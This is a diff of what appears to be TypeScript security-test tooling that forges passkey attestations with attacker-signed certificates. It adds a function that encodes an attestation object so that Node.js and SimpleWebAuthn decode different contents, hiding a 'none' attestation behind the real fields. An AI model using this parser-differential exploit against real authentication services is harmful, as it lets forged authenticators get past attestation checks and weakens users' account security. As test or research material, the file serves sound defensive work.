@@ -1,7 +1,7 @@
 // Forges attestations of passkeys. Each has a certificate that an attacker has signed, and that names an address from which a list of
 // revoked certificates (CRL) can be downloaded.
 import { generateKeyPairSync, sign } from 'node:crypto';
-import { bytes, type Attestation, type Attested } from './software-passkey.ts';
+import { bytes, text, type Attestation, type Attested } from './software-passkey.ts';
 
 /** Encodes a value in DER (ITU-T X.690). */
 function der(tag: number, ...parts: readonly Buffer[]): Buffer {
@@ -51,3 +51,22 @@ export const forgedAndroidKey =
     const chain = Buffer.concat([Buffer.from([0x82]), bytes(leaf), bytes(root)]);
     return { fmt: 'android-key', statement: { alg: Buffer.from([0x26]), sig: bytes(signature), x5c: chain } };
   };
+
+/**
+ * Encodes an attestation object so that two decoders of base64url read different objects. A decoder that skips invalid characters, such as
+ * that of Node.js, reads an object without attestation. A decoder that reads invalid characters as zeros, such as that of SimpleWebAuthn,
+ * reads the fields of the given object.
+ */
+export function ambiguous(attestationObject: string): string {
+  const fields = Buffer.from(attestationObject, 'base64url').subarray(1);
+  // The object has five fields. The value of the first field has three bytes: either the three zeros or the next three bytes.
+  const head = Buffer.concat([Buffer.from([0xa5]), text('pad'), Buffer.from([0x43])]);
+  // After the zeros, these bytes begin the second field. Its value is as long as the number that follows: 0x63, which also begins 'fmt'.
+  const second = Buffer.concat([text('y'), Buffer.from([0x58])]);
+  const without = [text('fmt'), text('none'), text('attStmt'), Buffer.from([0xa0]), text('authData'), Buffer.from([0x59, 0, 0])];
+  const before = Buffer.concat(without);
+  const hidden = Buffer.concat([Buffer.alloc(0x63 + 1 - before.length), fields]);
+  before.writeUInt16BE(hidden.length, before.length - 2);
+  const rest = Buffer.concat([second, before, hidden, text('last'), Buffer.from([0])]);
+  return `${head.toString('base64url')}!!!!${rest.toString('base64url')}`;
+}
